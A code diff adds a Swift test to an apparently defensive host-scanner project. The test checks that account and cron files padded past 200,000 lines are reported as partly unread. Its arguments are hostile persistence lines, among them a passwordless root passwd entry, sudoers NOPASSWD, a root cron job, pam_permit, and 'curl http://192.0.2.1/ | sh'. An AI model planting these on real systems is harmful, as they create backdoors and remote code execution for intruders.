@@ -4,6 +4,26 @@ import NoroshiModel
 import Testing
 
 @Suite struct `Hostile account files` {
+    @Test(arguments: [
+        ("/etc/passwd", "evil::0:0::/:/bin/sh"), ("/etc/shadow", "evil::1::::::"), ("/etc/group", "evil:x:0:"),
+        ("/etc/sudoers", "evil ALL=NOPASSWD: ALL"), ("/etc/cron.d/x", "* * * * * root /tmp/x"),
+        ("/etc/pam.d/x", "auth required pam_permit.so"), ("/etc/nsswitch.conf", "passwd: files ldap"),
+        ("/etc/cron.daily/x", "curl http://192.0.2.1/ | sh"), ("/root/.ssh/authorized_keys", "x"),
+        ("/etc/ssh/sshd_config", "AuthorizedKeysFile /x"), ("/etc/shadow.old", "evil:$1$a$b:1::::::"),
+    ])
+    func `with more lines than are read are a gap`(_ file: String, _ last: String) async throws {
+        let home = "root:x:0:0:root:/root:/bin/bash\n"
+        let tree = try AccountTree(["/etc/passwd": home])
+        let filling = String(repeating: "#\n", count: 200_001)
+        try tree.write(file, (file == "/etc/passwd" ? home : "") + filling + last + "\n")
+        let (survey, seen) = try await tree.look()
+        let gaps = seen.compactMap {
+            if case .unseen(let what, let reason) = $0.fact { "\(what): \(reason)" } else { nil }
+        }
+        #expect(gaps.contains("\(file): more than 200000 lines; the rest was not read"), "\(gaps)")
+        #expect(!survey.mistakes.contains { $0.place.file == file })
+    }
+
     /// A small generator, so that a failure can be had again.
     private struct Dice: RandomNumberGenerator {
         var state: UInt64
